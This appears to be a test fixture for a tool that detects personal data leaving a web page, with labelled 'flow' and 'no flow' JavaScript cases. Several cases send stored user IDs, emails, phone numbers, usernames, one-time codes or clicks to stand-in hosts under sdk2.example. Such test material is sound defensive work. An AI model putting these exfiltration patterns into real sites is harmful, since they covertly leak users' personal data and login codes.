//# push-replaced-by-sender
// flow: identifier > q.sdk2.example via beacon
window._q = window._q || [];
window._q.push = function (args) { navigator.sendBeacon('https://q.sdk2.example/', JSON.stringify(args)); };
window._q.push(['id', localStorage.getItem('uid')]);

//# queue-never-drained
// no flow
// why: a local array is filled, nobody reads it
(function () {
  const q = [];
  q.push(['id', localStorage.getItem('uid')]);
})();

//# queue-drained
// flow: email > dr.sdk2.example via fetch
const jobs = [];
jobs.push({ mail: document.querySelector('input[type=email]').value });
setInterval(function () {
  while (jobs.length) fetch('https://dr.sdk2.example/', { method: 'POST', body: JSON.stringify(jobs.shift()) });
}, 1000);

//# queue-length-reported
// no flow
// why: only the length of the queue is sent
const jobs0 = [];
jobs0.push({ mail: document.querySelector('input[type=email]').value });
fetch('https://dr0.sdk2.example/?n=' + jobs0.length);

//# command-function
// flow: phone > cmd.sdk2.example via fetch
const commands = { identify: (v) => fetch('https://cmd.sdk2.example/', { method: 'POST', body: v }) };
function sdk(name, v) { commands[name](v); }
sdk('identify', document.querySelector('input[type=tel]').value);

//# command-noop
// no flow
// why: the command called does nothing with its argument
const commands0 = {
  identify: function (v) {},
  ping: function () { fetch('https://cmd0.sdk2.example/'); },
};
function sdk0(name, v) { commands0[name](v); }
sdk0('identify', document.querySelector('input[type=tel]').value);

//# stub-replayed
// flow: username > stub.sdk2.example via xhr
function stub() { stub.q.push(arguments); }
stub.q = [];
stub('set', document.querySelector('input[autocomplete=username]').value);
stub.q.forEach(function (a) {
  const x = new XMLHttpRequest();
  x.open('POST', 'https://stub.sdk2.example/');
  x.send(a[1]);
});

//# stub-replays-command-name
// no flow
// why: only the name of the command is sent
function stub0() { stub0.q.push(arguments); }
stub0.q = [];
stub0('set', document.querySelector('input[autocomplete=username]').value);
stub0.q.forEach(function (a) { fetch('https://stub0.sdk2.example/?cmd=' + a[0]); });

//# emitter
// flow: otp > em.sdk2.example via fetch
const on = {};
const bus = { on(n, f) { (on[n] = on[n] || []).push(f); }, emit(n, v) { (on[n] || []).forEach((f) => f(v)); } };
bus.on('code', (v) => fetch('https://em.sdk2.example/', { method: 'POST', body: v }));
bus.emit('code', document.querySelector('input[autocomplete=one-time-code]').value);

//# emitter-no-listener
// no flow
// why: nobody listens to `code`; the listener of `tick` gets a fixed value
const on0 = {};
const bus0 = { on(n, f) { (on0[n] = on0[n] || []).push(f); }, emit(n, v) { (on0[n] || []).forEach((f) => f(v)); } };
bus0.on('tick', (v) => fetch('https://em0.sdk2.example/', { method: 'POST', body: v }));
bus0.emit('code', document.querySelector('input[autocomplete=one-time-code]').value);
bus0.emit('tick', 'now');

//# middleware-adds-id
// flow: identifier > mw.sdk2.example via fetch
const chain = [(m) => ({ ...m, uid: localStorage.getItem('uid') }), (m) => JSON.stringify(m)];
fetch('https://mw.sdk2.example/', { method: 'POST', body: chain.reduce((m, f) => f(m), { e: 'view' }) });

//# middleware-removes-id
// no flow
// why: the second step hands on the event name only
const chain0 = [(m) => ({ ...m, uid: localStorage.getItem('uid') }), (m) => m.e];
fetch('https://mw0.sdk2.example/', { method: 'POST', body: chain0.reduce((m, f) => f(m), { e: 'view' }) });

//# batch-on-unload
// flow: interaction > unl.sdk2.example via beacon
// guard: event pagehide
const clicks = [];
document.addEventListener('click', (e) => clicks.push([e.clientX, e.clientY]));
addEventListener('pagehide', () => navigator.sendBeacon('https://unl.sdk2.example/', JSON.stringify(clicks)));

//# batch-reset-before-send
// no flow
// why: the batch is a new empty array when it is sent
let batch = [localStorage.getItem('uid')];
batch = [];
navigator.sendBeacon('https://rst0.sdk2.example/', JSON.stringify(batch));

//# identify-into-local-profile
// no flow
// why: identify keeps the address, flush sends the version only
const sdkA = { p: {}, identify(m) { this.p.mail = m; }, flush() { fetch('https://lp0.sdk2.example/?v=2'); } };
sdkA.identify(document.querySelector('input[type=email]').value);
sdkA.flush();

//# opted-out-constant
// no flow
// why: the option is off and never turned on
const opts = Object.freeze({ track: false });
function track(v) { if (opts.track) fetch('https://oo0.sdk2.example/', { method: 'POST', body: v }); }
track(document.cookie);
